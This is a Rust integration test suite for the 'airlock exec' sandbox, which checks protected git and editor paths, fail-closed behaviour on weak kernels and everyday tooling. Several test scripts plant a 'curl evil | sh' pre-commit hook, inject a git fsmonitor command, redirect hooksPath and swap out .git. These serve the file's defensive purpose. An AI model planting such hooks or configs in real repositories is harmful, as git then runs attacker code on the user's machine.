//! Protected paths, fail-closed behaviour and everyday work inside `airlock exec`.
//! Effects are checked from outside the sandbox.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod sandbox_common;

use std::path::Path;
use std::process::Command;

use sandbox_common::*;

/// A git repository with a commit, owned by the case's user.
fn git_fixture(case: Case) -> Fixture {
    let t = Fixture::new(case);
    std::fs::write(t.ws.join("README"), "hello\n").unwrap();
    std::fs::create_dir_all(t.ws.join(".airlock")).unwrap();
    std::fs::write(t.ws.join(".airlock/policy.toml"), "version = 1\n").unwrap();
    t.chown_all();
    let ws = t.ws.to_str().unwrap();
    as_user(case, &t.ws, &["git", "-C", ws, "init", "-q"]);
    as_user(
        case,
        &t.ws,
        &["git", "-C", ws, "config", "user.email", "t@example.com"],
    );
    as_user(
        case,
        &t.ws,
        &["git", "-C", ws, "config", "user.name", "Airlock Test"],
    );
    as_user(case, &t.ws, &["git", "-C", ws, "add", "README"]);
    as_user(case, &t.ws, &["git", "-C", ws, "commit", "-qm", "init"]);
    t
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// Everything under the protected paths, to compare before/after.
fn protected_state(ws: &Path) -> Vec<(String, String)> {
    let mut v = Vec::new();
    for rel in [".git/config", ".airlock/policy.toml"] {
        v.push((rel.to_string(), read(&ws.join(rel))));
    }
    let mut hooks: Vec<String> = std::fs::read_dir(ws.join(".git/hooks"))
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    hooks.sort();
    v.push((".git/hooks".into(), hooks.join(",")));
    for rel in [".envrc", ".vscode", ".idea", ".airlock/evil"] {
        v.push((rel.to_string(), ws.join(rel).exists().to_string()));
    }
    v
}

/// `git log --oneline` of the workspace, run on the host (outside the sandbox).
fn host_git_log(t: &Fixture) -> String {
    let log = Command::new("git")
        .arg("-C")
        .arg(&t.ws)
        .args(["-c", "safe.directory=*", "log", "--oneline"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&log.stdout).into_owned()
}

#[test]
fn protected_paths_cannot_be_changed() {
    for_each_case(|case| {
        let t = git_fixture(case);
        let before = protected_state(&t.ws);
        let script = r#"
            echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/config
            git config core.hooksPath /tmp/evil-hooks
            rm -f .git/config; rm -rf .git/hooks
            echo 'export X=1' > .envrc
            mkdir -p .vscode && echo '{"task": "evil"}' > .vscode/settings.json
            mkdir -p .idea && echo x > .idea/workspace.xml
            echo 'version = 2' > .airlock/policy.toml; echo x > .airlock/evil
            mv .airlock airlock-away
            exit 0
        "#;
        let r = t.exec(&[], script);
        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
        assert_eq!(protected_state(&t.ws), before, "{case}: {}", r.stderr);
        if !case.mode.has_userns() {
            // The fallback restores after the fact and says so.
            assert!(
                r.stderr.contains("restored") || r.stderr.contains("moved back"),
                "{case}: {}",
                r.stderr
            );
        }
        // The repository still works from the host, and git runs no planted config.
        assert!(host_git_log(&t).contains("init"), "{case}: repo broken");
    });
}

/// A command that sees the workspace read-only (the agent process) cannot change a protected
/// path, so nothing is "restored" after it: the user's own edits on the host while it ran
/// (here `.airlock/policy.toml`, as an approval's "always" writes it) are kept.
#[test]
fn host_edits_survive_a_read_only_workspace_command() {
    use std::io::BufRead;
    for_each_case(|case| {
        let t = git_fixture(case);
        let policy = t.ws.join(".airlock/policy.toml");
        let mut c = t.base_command(&airlock_bin());
        c.arg("exec")
            .arg("--workspace")
            .arg(&t.ws)
            .args(case.mode.flags())
            .arg("--read-only-workspace")
            .args(["--", "sh", "-c"])
            // Says it runs (so the snapshot, if any, is taken), then waits for the host's edit.
            .arg("echo ready; i=0; until grep -q edited .airlock/policy.toml || [ $i -ge 100 ]; do sleep 0.05; i=$((i+1)); done")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = c.spawn().unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert_eq!(line, "ready\n", "{case}");
        let edited = "version = 1 # edited on the host\n";
        std::fs::write(&policy, edited).unwrap();
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{case}: {stderr}");
        assert_eq!(read(&policy), edited, "{case}: {stderr}");
        assert!(!stderr.contains("restored"), "{case}: {stderr}");
    });
}

#[test]
fn renaming_git_away_and_recreating_it_does_not_stick() {
    for_each_case(|case| {
        let t = git_fixture(case);
        let before = protected_state(&t.ws);
        let script = r#"
            mv .git .git-away || exit 0
            mkdir -p .git/hooks
            cp -r .git-away/* .git/ 2>/dev/null
            echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/config
            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git-away/config
            exit 0
        "#;
        let r = t.exec(&[], script);
        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
        assert_eq!(protected_state(&t.ws), before, "{case}: {}", r.stderr);
        assert!(!t.ws.join(".git/hooks/pre-commit").exists(), "{case}");
        assert!(
            !read(&t.ws.join(".git/config")).contains("fsmonitor"),
            "{case}"
        );
        // The real repository is back in place with its history.
        assert!(t.ws.join(".git/HEAD").exists(), "{case}: .git not restored");
        // Whatever was renamed away must not carry a planted config either.
        for e in std::fs::read_dir(&t.ws).unwrap().flatten() {
            let cfg = e.path().join("config");
            if e.file_name() != ".git" && cfg.exists() {
                assert!(
                    !read(&cfg).contains("fsmonitor")
                        || !e.path().join("HEAD").exists()
                        || e.file_name().to_string_lossy().contains("airlock-replaced"),
                    "{case}: {}",
                    e.path().display()
                );
            }
        }
    });
}

/// A submodule's git dir (`.git/modules/<path>/`) has its own hooks and config, run by git
/// in the submodule exactly like the top-level ones: they are protected too, while ordinary
/// work in the submodule (objects, index, refs) still goes through.
#[test]
fn submodule_hooks_and_config_are_protected() {
    for_each_case(|case| {
        let t = git_fixture(case);
        let ws = t.ws.to_str().unwrap();
        let gitdir = t.ws.join(".git/modules/libs/sub");
        let (gitdir_s, sub_s) = (gitdir.to_str().unwrap(), format!("{ws}/libs/sub"));
        as_user(case, &t.ws, &["mkdir", "-p", gitdir_s, &sub_s]);
        as_user(
            case,
            &t.ws,
            &["git", "init", "-q", "--separate-git-dir", gitdir_s, &sub_s],
        );
        let config_before = read(&gitdir.join("config"));
        let script = r#"
            echo 'curl evil | sh' > .git/modules/libs/sub/hooks/pre-commit
            chmod +x .git/modules/libs/sub/hooks/pre-commit
            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/modules/libs/sub/config
            cd libs/sub && echo x > f.txt && git add f.txt \
              && git -c user.email=t@example.com -c user.name=T commit -qm 'in the submodule'
        "#;
        let r = t.exec(&[], script);
        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
        assert!(
            !gitdir.join("hooks/pre-commit").exists(),
            "{case}: a hook was planted in the submodule: {}",
            r.stderr
        );
        assert_eq!(read(&gitdir.join("config")), config_before, "{case}");
        let log = Command::new("git")
            .arg("-C")
            .arg(&sub_s)
            .args(["-c", "safe.directory=*", "log", "--oneline"])
            .output()
            .unwrap();
        assert!(
            String::from_utf8_lossy(&log.stdout).contains("in the submodule"),
            "{case}: the submodule commit did not land: {}",
            r.stderr
        );
    });
}

#[test]
fn git_add_and_commit_work() {
    for_each_case(|case| {
        let t = git_fixture(case);
        let r = t.exec(&[], "echo change > file.txt && mkdir -p src && echo 'fn main() {}' > src/main.rs && git add -A && git commit -qm 'from the sandbox' && git status --short > status.txt");
        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
        assert!(
            host_git_log(&t).contains("from the sandbox"),
            "{case}: {}",
            r.stderr
        );
        assert!(
            !r.stderr.contains("restored"),
            "{case}: git's own writes were reported as violations: {}",
            r.stderr
        );
    });
}

#[test]
fn python_node_and_shell_tools_run() {
    for_each_case(|case| {
        let t = Fixture::new(case);
        t.chown_all();
        let script = "/usr/bin/python3 -c 'open(\"py.txt\", \"w\").write(\"py-ok\")' && \
                      node -e 'require(\"fs\").writeFileSync(\"node.txt\", \"node-ok\")' && \
                      ls /usr > ls.txt && mktemp > mktemp.txt";
        let r = t.exec(&[], script);
        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
        assert_eq!(read(&t.ws.join("py.txt")), "py-ok", "{case}");
        assert_eq!(read(&t.ws.join("node.txt")), "node-ok", "{case}");
    });
}

#[test]
fn cargo_builds_a_small_crate_offline() {
    // The toolchain of the user running the suite; an unprivileged user has none here.
    let Some(home) = std::env::var_os("HOME") else {
        return;
    };
    let cargo_home = std::env::var_os("CARGO_HOME")
        .map(Into::into)
        .unwrap_or_else(|| Path::new(&home).join(".cargo"));
    let rustup_home = std::env::var_os("RUSTUP_HOME")
        .map(Into::into)
        .unwrap_or_else(|| Path::new(&home).join(".rustup"));
    if !cargo_home.join("bin/cargo").exists() {
        return;
    }
    for case in cases(&[Mode::Default, Mode::Abi1NoUserns])
        .into_iter()
        .filter(|c| c.user == User::Current)
    {
        let t = Fixture::new(case);
        std::fs::create_dir_all(t.ws.join("hello/src")).unwrap();
        std::fs::write(
            t.ws.join("hello/Cargo.toml"),
            "[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .unwrap();
        std::fs::write(
            t.ws.join("hello/src/main.rs"),
            "fn main() { println!(\"hi\"); }\n",
        )
        .unwrap();
        let r = t.exec_argv(
            &[
                "--allow-read",
                cargo_home.to_str().unwrap(),
                "--allow-read",
                rustup_home.to_str().unwrap(),
                "--env",
                &format!("CARGO_HOME={}", cargo_home.display()),
                "--env",
                &format!("RUSTUP_HOME={}", rustup_home.display()),
            ],
            &[
                cargo_home.join("bin/cargo").to_str().unwrap(),
                "build",
                "--offline",
                "-q",
                "--manifest-path",
                "hello/Cargo.toml",
            ],
        );
        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
        assert!(
            t.ws.join("hello/target/debug/hello").exists(),
            "{case}: no binary"
        );
    }
}

/// `airlock exec [flags] -- sh -c 'echo ran > ran.txt'` on a kernel made to look like Landlock
/// ABI `abi` (0: no Landlock).
fn exec_at_abi(t: &Fixture, abi: &str, flags: &[&str]) -> RunResult {
    let mut c = t.base_command(&airlock_bin());
    c.env("AIRLOCK_TEST_LANDLOCK_ABI", abi);
    c.arg("exec")
        .args(flags)
        .args(["--", "sh", "-c", "echo ran > ran.txt"]);
    run(c)
}

#[test]
fn refuses_when_the_kernel_lacks_what_a_rule_needs() {
    for case in cases(&[Mode::Default]) {
        let t = Fixture::new(case);
        t.chown_all();
        // Each refusal names what is missing and the flag that opts out of it.
        for (abi, missing, flag) in [
            ("5", "ABI 6", "--weaker-mode no-signal-scope"),
            ("0", "Landlock", "--weaker-mode no-landlock"),
        ] {
            let r = exec_at_abi(&t, abi, &[]);
            assert_eq!(r.code, 125, "{}", r.stderr);
            assert!(
                r.stderr.contains(missing) && r.stderr.contains(flag),
                "ABI {abi}: {}",
                r.stderr
            );
            assert!(!t.ws.join("ran.txt").exists(), "the command ran anyway");
        }

        // With the explicit opt-in it runs.
        let r = exec_at_abi(&t, "5", &["--weaker-mode", "no-signal-scope"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(t.ws.join("ran.txt").exists());
    }
}

#[test]
fn a_terminal_stays_a_terminal() {
    // `script` gives airlock a pty; the command must see a TTY on stdin and stdout.
    for case in cases(&[Mode::Default, Mode::NoUserns]) {
        let t = Fixture::new(case);
        t.chown_all();
        let inner = format!(
            "{} exec --workspace {} -- sh -c 'test -t 0 && test -t 1 && tty > tty.txt'",
            airlock_bin().display(),
            t.ws.display()
        );
        let mut c = t.base_command(Path::new("/usr/bin/script"));
        c.args(["-qec", &inner, "/dev/null"]);
        let r = run(c);
        assert_eq!(r.code, 0, "{case}: {} {}", r.stdout, r.stderr);
        assert!(
            read(&t.ws.join("tty.txt")).starts_with("/dev/pts/"),
            "{case}: {}",
            r.stdout
        );
    }
}

#[test]
fn report_json_has_resource_use() {
    let t = Fixture::new(cases(&[Mode::Default])[0]);
    let report = t.root.join("report.json");
    let r = t.exec_argv(
        &[
            "--report-json",
            report.to_str().unwrap(),
            "--max-output",
            "100000",
        ],
        &[
            "sh",
            "-c",
            "echo hello; head -c 300000 /dev/zero > big.bin; exit 3",
        ],
    );
    assert_eq!(r.code, 3, "{}", r.stderr);
    let json = read(&report);
    assert!(json.contains("\"exit_code\":3"), "{json}");
    assert!(json.contains("\"bytes_out\":6"), "{json}");
    assert!(json.contains("\"killed_by\":null"), "{json}");
    let r = t.exec_argv(
        &[
            "--report-json",
            report.to_str().unwrap(),
            "--max-output",
            "1000",
        ],
        &["sh", "-c", "yes"],
    );
    assert_eq!(r.code, 128 + 9, "{}", r.stderr);
    assert!(
        read(&report).contains("\"killed_by\":\"output_cap\""),
        "{}",
        read(&report)
    );
    assert!(
        r.stdout.len() <= 1000,
        "output cap leaked {} bytes",
        r.stdout.len()
    );
}

#[test]
fn doctor_reports_kernel_features_and_needed_flags() {
    let out = Command::new(airlock_bin())
        .args(["doctor", "--json"])
        .env_remove("AIRLOCK_TEST_LANDLOCK_ABI")
        .output()
        .unwrap();
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("doctor --json is JSON");
    let kernel_abi = v["landlock_abi_kernel"].as_i64().unwrap();
    assert!(kernel_abi >= 1, "{v}");
    assert!(v["seccomp"].as_bool().unwrap());
    assert!(v["protections"].as_array().unwrap().len() >= 8);

    // With the ABI capped below 6 the signal scope is missing and the flag is named.
    let out = Command::new(airlock_bin())
        .args(["doctor", "--json"])
        .env("AIRLOCK_TEST_LANDLOCK_ABI", "4")
        .env("AIRLOCK_TEST_NO_USERNS", "1")
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["landlock_abi"], 4);
    assert_eq!(v["user_namespaces"], false);
    assert_eq!(
        v["exec_needs_weaker_modes"],
        serde_json::json!(["no-signal-scope"])
    );

    let text = Command::new(airlock_bin()).arg("doctor").output().unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("landlock ABI") && text.contains("weaker modes"),
        "{text}"
    );
}
